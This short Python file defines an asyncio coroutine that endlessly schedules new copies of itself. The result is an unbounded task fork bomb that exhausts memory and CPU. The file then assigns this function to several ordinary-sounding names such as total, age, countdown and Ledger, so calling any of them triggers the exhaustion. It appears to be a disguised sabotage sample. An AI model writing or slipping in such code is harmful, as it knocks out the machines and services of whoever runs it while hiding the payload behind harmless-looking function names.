"""Keeps an event loop busy with tasks that start further tasks."""

import asyncio


async def _breed():
    while True:
        asyncio.ensure_future(_breed())
        await asyncio.sleep(0)


def answer(*args):
    asyncio.run(_breed())


total = initials = settle = age = keep = countdown = Ledger = answer
